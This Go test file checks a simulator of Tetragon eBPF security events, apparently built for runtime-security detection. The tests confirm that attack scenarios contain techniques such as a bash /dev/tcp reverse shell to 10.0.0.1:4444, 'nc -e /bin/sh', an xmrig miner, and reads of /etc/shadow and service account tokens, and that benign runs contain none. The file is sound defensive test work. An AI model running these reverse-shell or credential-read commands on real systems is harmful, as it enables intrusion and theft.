// Copyright The otelcol-runtime-security Authors
// SPDX-License-Identifier: Apache-2.0

package tetragonsim

import (
	"encoding/base64"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/cilium/tetragon/api/v1/tetragon"
	"google.golang.org/protobuf/encoding/protojson"
	"google.golang.org/protobuf/proto"
)

// fakeClock advances 250µs per reading, so generated times are deterministic.
func fakeClock() func() time.Time {
	t := time.Date(2026, 11, 26, 12, 0, 0, 0, time.UTC)
	return func() time.Time {
		t = t.Add(250 * time.Microsecond)
		return t
	}
}

func generate(t testing.TB, scenario string, seed uint64, n int) []*tetragon.GetEventsResponse {
	t.Helper()
	g, err := NewGenerator(GeneratorConfig{Scenario: scenario, Seed: seed, Clock: fakeClock()})
	if err != nil {
		t.Fatal(err)
	}
	out := make([]*tetragon.GetEventsResponse, n)
	for i := range out {
		out[i] = g.Next()
	}
	return out
}

var containerIDRe = regexp.MustCompile(`^containerd://([0-9a-f]{64})$`)

func TestGeneratedEventsAreValid(t *testing.T) {
	for _, sc := range Scenarios() {
		t.Run(sc, func(t *testing.T) {
			events := generate(t, sc, 42, 3000)
			var prev time.Time
			for i, ev := range events {
				// Strict protojson round trip (unknown fields rejected) and wire round trip.
				js, err := protojson.MarshalOptions{UseProtoNames: true}.Marshal(ev)
				if err != nil {
					t.Fatalf("#%d: marshal: %v", i, err)
				}
				back := &tetragon.GetEventsResponse{}
				if err := protojson.Unmarshal(js, back); err != nil {
					t.Fatalf("#%d: strict unmarshal: %v\n%s", i, err, js)
				}
				if !proto.Equal(ev, back) {
					t.Fatalf("#%d: protojson round trip changed the event", i)
				}
				f, err := NewFrame(ev, false)
				if err != nil {
					t.Fatalf("#%d: %v", i, err)
				}
				if dec, err := f.Decode(); err != nil || !proto.Equal(dec, ev) {
					t.Fatalf("#%d: wire round trip: %v", i, err)
				}
				checkShape(t, i, ev)
				ts := ev.GetTime().AsTime()
				if ts.Before(prev) {
					t.Fatalf("#%d: time %s before previous %s", i, ts, prev)
				}
				prev = ts
			}
		})
	}
}

// checkShape verifies what real Tetragon output always has.
func checkShape(t *testing.T, i int, ev *tetragon.GetEventsResponse) {
	t.Helper()
	if ev.GetNodeName() != DefaultNodeName || ev.GetTime() == nil {
		t.Fatalf("#%d: node_name %q time %v", i, ev.GetNodeName(), ev.GetTime())
	}
	proc, parent, ancestors, _ := eventParts(ev)
	if proc == nil {
		t.Fatalf("#%d: no process: %v", i, ev)
	}
	for _, p := range append([]*tetragon.Process{proc, parent}, ancestors...) {
		if p == nil {
			continue
		}
		id, err := base64.StdEncoding.DecodeString(p.GetExecId())
		if err != nil {
			t.Fatalf("#%d: exec_id %q is not base64: %v", i, p.GetExecId(), err)
		}
		parts := strings.Split(string(id), ":")
		if len(parts) != 3 || parts[0] != DefaultNodeName || parts[2] != fmt.Sprint(p.GetPid().GetValue()) {
			t.Fatalf("#%d: exec_id %q is not node:ktime:pid for pid %d", i, id, p.GetPid().GetValue())
		}
		if pod := p.GetPod(); pod != nil {
			m := containerIDRe.FindStringSubmatch(pod.GetContainer().GetId())
			if m == nil || p.GetDocker() != m[1][:31] {
				t.Fatalf("#%d: container id %q / docker %q", i, pod.GetContainer().GetId(), p.GetDocker())
			}
			switch pod.GetWorkloadKind() {
			case "Deployment", "DaemonSet", "StatefulSet", "CronJob":
			default:
				t.Fatalf("#%d: workload_kind %q", i, pod.GetWorkloadKind())
			}
			if pod.GetNamespace() == "" || pod.GetName() == "" || pod.GetWorkload() == "" || pod.GetContainer().GetImage().GetName() == "" ||
				len(pod.GetPodLabels()) == 0 || pod.GetContainer().GetPid() == nil {
				t.Fatalf("#%d: incomplete pod %v", i, pod)
			}
		}
	}
	if parent != nil && proc.GetParentExecId() != parent.GetExecId() {
		t.Fatalf("#%d: parent_exec_id %s, parent exec_id %s", i, proc.GetParentExecId(), parent.GetExecId())
	}
	if len(ancestors) > 0 && parent.GetParentExecId() != ancestors[0].GetExecId() {
		t.Fatalf("#%d: ancestors do not continue the parent chain", i)
	}
	if ev.GetProcessExec() != nil && proc.GetStartTime().AsTime().After(ev.GetTime().AsTime()) {
		t.Fatalf("#%d: exec of a process that starts after the event", i)
	}
	if k := ev.GetProcessKprobe(); k != nil && (k.GetPolicyName() == "" || k.GetAction() != tetragon.KprobeAction_KPROBE_ACTION_POST) {
		t.Fatalf("#%d: kprobe without policy or POST action: %v", i, k)
	}
	if tp := ev.GetProcessTracepoint(); tp != nil && tp.GetSubsys() == "syscalls" && tp.GetEvent() == "sys_enter_openat" {
		a := tp.GetArgs()
		if len(a) != 3 || a[0].GetArg() == nil || a[1].GetStringArg() == "" {
			t.Fatalf("#%d: sys_enter_openat args %v", i, a)
		}
	}
}

// technique is one attack step the demo and attack scenarios must show.
type technique struct {
	name  string
	match func(*tetragon.GetEventsResponse) bool
}

func kprobeFile(ev *tetragon.GetEventsResponse, fn, path string, mask int32) bool {
	k := ev.GetProcessKprobe()
	if k.GetFunctionName() != fn || len(k.GetArgs()) < 2 {
		return false
	}
	return k.GetArgs()[0].GetFileArg().GetPath() == path && k.GetArgs()[1].GetIntArg() == mask
}

func execOf(ev *tetragon.GetEventsResponse) *tetragon.Process {
	return ev.GetProcessExec().GetProcess()
}

func tcpConnectTo(ev *tetragon.GetEventsResponse, daddr string, dport uint32) bool {
	k := ev.GetProcessKprobe()
	if k.GetFunctionName() != "tcp_connect" || len(k.GetArgs()) != 1 {
		return false
	}
	s := k.GetArgs()[0].GetSockArg()
	return s.GetDaddr() == daddr && s.GetDport() == dport && s.GetProtocol() == "IPPROTO_TCP" && s.GetFamily() == "AF_INET" &&
		s.GetSaddr() != "" && s.GetSport() != 0
}

var techniques = []technique{
	{"kubectl exec shell", func(ev *tetragon.GetEventsResponse) bool {
		p, parent := execOf(ev), ev.GetProcessExec().GetParent()
		return (p.GetBinary() == "/bin/bash" || p.GetBinary() == "/bin/sh") && p.GetPod() != nil &&
			parent.GetBinary() == "/usr/bin/runc" && strings.Contains(parent.GetArguments(), " exec ") &&
			!p.GetInInitTree().GetValue() && !p.GetPod().GetContainer().GetMaybeExecProbe()
	}},
	{"/etc/shadow kprobe", func(ev *tetragon.GetEventsResponse) bool {
		return kprobeFile(ev, "security_file_permission", "/etc/shadow", 4)
	}},
	{"/etc/shadow tracepoint", func(ev *tetragon.GetEventsResponse) bool {
		tp := ev.GetProcessTracepoint()
		return tp.GetEvent() == "sys_enter_openat" && len(tp.GetArgs()) == 3 && tp.GetArgs()[1].GetStringArg() == "/etc/shadow"
	}},
	{"service account token read with cat", func(ev *tetragon.GetEventsResponse) bool {
		return kprobeFile(ev, "security_file_permission", "/var/run/secrets/kubernetes.io/serviceaccount/token", 4) &&
			ev.GetProcessKprobe().GetProcess().GetBinary() == "/bin/cat"
	}},
	{"package manager", func(ev *tetragon.GetEventsResponse) bool {
		return execOf(ev).GetBinary() == "/usr/bin/apt-get" && strings.HasPrefix(execOf(ev).GetArguments(), "install")
	}},
	{"binary executed from /tmp", func(ev *tetragon.GetEventsResponse) bool {
		return strings.HasPrefix(execOf(ev).GetBinary(), "/tmp/") && execOf(ev).GetPod() != nil
	}},
	{"bash reverse shell", func(ev *tetragon.GetEventsResponse) bool {
		return execOf(ev).GetBinary() == "/bin/bash" && strings.Contains(execOf(ev).GetArguments(), "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")
	}},
	{"reverse shell connection", func(ev *tetragon.GetEventsResponse) bool { return tcpConnectTo(ev, "10.0.0.1", 4444) }},
	{"nc -e", func(ev *tetragon.GetEventsResponse) bool {
		return execOf(ev).GetBinary() == "/usr/bin/nc" && strings.Contains(execOf(ev).GetArguments(), "-e /bin/sh")
	}},
	{"crypto miner", func(ev *tetragon.GetEventsResponse) bool {
		return strings.HasSuffix(execOf(ev).GetBinary(), "/xmrig") && strings.Contains(execOf(ev).GetArguments(), "-o stratum+tcp://pool:3333")
	}},
	{"miner pool connection", func(ev *tetragon.GetEventsResponse) bool { return tcpConnectTo(ev, MinerPoolIP, 3333) }},
	{"nmap", func(ev *tetragon.GetEventsResponse) bool { return execOf(ev).GetBinary() == "/usr/bin/nmap" }},
	{"shell spawned by nginx", func(ev *tetragon.GetEventsResponse) bool {
		return execOf(ev).GetBinary() == "/bin/sh" && ev.GetProcessExec().GetParent().GetBinary() == "/usr/sbin/nginx"
	}},
	{"ptrace attach", func(ev *tetragon.GetEventsResponse) bool {
		tp := ev.GetProcessTracepoint()
		return tp.GetEvent() == "sys_enter_ptrace" && len(tp.GetArgs()) == 3 && tp.GetArgs()[0].GetLongArg() == 16
	}},
	{"setns kprobe from a container", func(ev *tetragon.GetEventsResponse) bool {
		k := ev.GetProcessKprobe()
		return k.GetFunctionName() == "__x64_sys_setns" && k.GetProcess().GetPod() != nil && len(k.GetArgs()) == 2
	}},
	{"setns tracepoint from a container", func(ev *tetragon.GetEventsResponse) bool {
		tp := ev.GetProcessTracepoint()
		return tp.GetEvent() == "sys_enter_setns" && tp.GetProcess().GetPod() != nil
	}},
	{"kernel module load", func(ev *tetragon.GetEventsResponse) bool {
		k := ev.GetProcessKprobe()
		return k.GetFunctionName() == "do_init_module" && len(k.GetArgs()) == 1 && k.GetArgs()[0].GetModuleArg().GetName() != ""
	}},
	{"write to /etc/passwd", func(ev *tetragon.GetEventsResponse) bool {
		return kprobeFile(ev, "security_file_permission", "/etc/passwd", 2)
	}},
}

// shapes the generator must produce in the demo scenario besides attacks.
var shapes = []technique{
	{"runc init in the init tree", func(ev *tetragon.GetEventsResponse) bool {
		p := execOf(ev)
		return p.GetBinary() == "/proc/self/exe" && p.GetArguments() == "init" && p.GetInInitTree().GetValue() && p.GetPod() != nil
	}},
	{"entrypoint script", func(ev *tetragon.GetEventsResponse) bool {
		return execOf(ev).GetBinary() == "/docker-entrypoint.sh" && execOf(ev).GetInInitTree().GetValue()
	}},
	{"exec probe", func(ev *tetragon.GetEventsResponse) bool {
		return execOf(ev).GetPod().GetContainer().GetMaybeExecProbe() && ev.GetProcessExec().GetParent().GetBinary() == "/usr/bin/runc"
	}},
	{"file read kprobe", func(ev *tetragon.GetEventsResponse) bool {
		k := ev.GetProcessKprobe()
		return k.GetFunctionName() == "security_file_permission" && len(k.GetArgs()) == 2 && k.GetArgs()[1].GetIntArg() == 4 && k.GetPolicyName() != ""
	}},
	{"file write kprobe", func(ev *tetragon.GetEventsResponse) bool {
		k := ev.GetProcessKprobe()
		return k.GetFunctionName() == "security_file_permission" && len(k.GetArgs()) == 2 && k.GetArgs()[1].GetIntArg() == 2
	}},
	{"tcp_connect kprobe", func(ev *tetragon.GetEventsResponse) bool {
		k := ev.GetProcessKprobe()
		return k.GetFunctionName() == "tcp_connect" && k.GetArgs()[0].GetSockArg().GetProtocol() == "IPPROTO_TCP"
	}},
	{"raw_syscalls sys_enter", func(ev *tetragon.GetEventsResponse) bool {
		tp := ev.GetProcessTracepoint()
		return tp.GetSubsys() == "raw_syscalls" && tp.GetEvent() == "sys_enter" && tp.GetArgs()[0].GetSyscallId().GetId() != 0
	}},
	{"exit with parent", func(ev *tetragon.GetEventsResponse) bool {
		return ev.GetProcessExit().GetParent() != nil && len(ev.GetProcessExit().GetAncestors()) > 0
	}},
}

func missing(events []*tetragon.GetEventsResponse, ts []technique) []string {
	var out []string
	for _, tech := range ts {
		found := false
		for _, ev := range events {
			if tech.match(ev) {
				found = true
				break
			}
		}
		if !found {
			out = append(out, tech.name)
		}
	}
	return out
}

func TestDemoContainsEveryTechnique(t *testing.T) {
	for _, seed := range []uint64{1, 2, 3} {
		events := generate(t, "demo", seed, 1000)
		if m := missing(events, append(techniques, shapes...)); len(m) > 0 {
			t.Errorf("seed %d: demo lacks %v", seed, m)
		}
		kinds, namespaces := map[string]bool{}, map[string]bool{}
		for _, ev := range events {
			p, _, _, _ := eventParts(ev)
			kinds[p.GetPod().GetWorkloadKind()] = true
			namespaces[p.GetPod().GetNamespace()] = true
		}
		for _, k := range []string{"Deployment", "DaemonSet", "StatefulSet", "CronJob"} {
			if !kinds[k] {
				t.Errorf("seed %d: no %s pod", seed, k)
			}
		}
		if len(namespaces) < 6 {
			t.Errorf("seed %d: only namespaces %v", seed, namespaces)
		}
	}
}

func TestAttackScenarioVariesVictims(t *testing.T) {
	events := generate(t, "attack", 5, 5000)
	if m := missing(events, techniques); len(m) > 0 {
		t.Fatalf("attack scenario lacks %v", m)
	}
	victims := map[string]bool{}
	for _, ev := range events {
		if techniques[0].match(ev) {
			victims[execOf(ev).GetPod().GetNamespace()+"/"+execOf(ev).GetPod().GetWorkload()] = true
		}
	}
	if len(victims) < 3 {
		t.Errorf("kubectl exec victims %v, want variety", victims)
	}
}

func TestBenignHasNoAttack(t *testing.T) {
	events := generate(t, "benign", 9, 5000)
	for _, tech := range techniques {
		for i, ev := range events {
			if tech.match(ev) {
				t.Errorf("benign event %d matches attack technique %q", i, tech.name)
				break
			}
		}
	}
	if m := missing(events, shapes); len(m) > 0 {
		t.Errorf("benign lacks %v", m)
	}
}

func TestScenarioCharacter(t *testing.T) {
	share := func(events []*tetragon.GetEventsResponse, keep func(*tetragon.GetEventsResponse) bool) float64 {
		n := 0
		for _, ev := range events {
			if keep(ev) {
				n++
			}
		}
		return float64(n) / float64(len(events))
	}
	execExit := func(ev *tetragon.GetEventsResponse) bool {
		return ev.GetProcessExec() != nil || ev.GetProcessExit() != nil
	}
	fileKprobe := func(ev *tetragon.GetEventsResponse) bool {
		return ev.GetProcessKprobe().GetFunctionName() == "security_file_permission"
	}
	tracepoint := func(ev *tetragon.GetEventsResponse) bool { return ev.GetProcessTracepoint() != nil }
	for _, tc := range []struct {
		scenario string
		keep     func(*tetragon.GetEventsResponse) bool
		min      float64
	}{
		{"exec-heavy", execExit, 0.85},
		{"file-access", fileKprobe, 0.7},
		{"syscalls", tracepoint, 0.5},
	} {
		events := generate(t, tc.scenario, 3, 4000)
		if s := share(events, tc.keep); s < tc.min {
			t.Errorf("%s: share %.2f, want at least %.2f", tc.scenario, s, tc.min)
		}
		if s := share(generate(t, "benign", 3, 4000), tc.keep); s >= tc.min {
			t.Errorf("benign share %.2f is as high as %s's minimum: the check does not discriminate", s, tc.scenario)
		}
	}
}

func TestGeneratorDeterministic(t *testing.T) {
	a := generate(t, "demo", 11, 2000)
	b := generate(t, "demo", 11, 2000)
	c := generate(t, "demo", 12, 2000)
	same := 0
	for i := range a {
		if !proto.Equal(a[i], b[i]) {
			t.Fatalf("event %d differs between two runs with the same seed", i)
		}
		if proto.Equal(a[i], c[i]) {
			same++
		}
	}
	if same == len(a) {
		t.Error("different seeds gave the same events")
	}
}

func TestUnknownScenario(t *testing.T) {
	if _, err := NewGenerator(GeneratorConfig{Scenario: "nope"}); err == nil {
		t.Error("unknown scenario accepted")
	}
	if _, err := New(Config{Generate: true, Scenario: "nope", ExportFile: "/dev/null"}); err == nil {
		t.Error("unknown scenario accepted by New")
	}
}
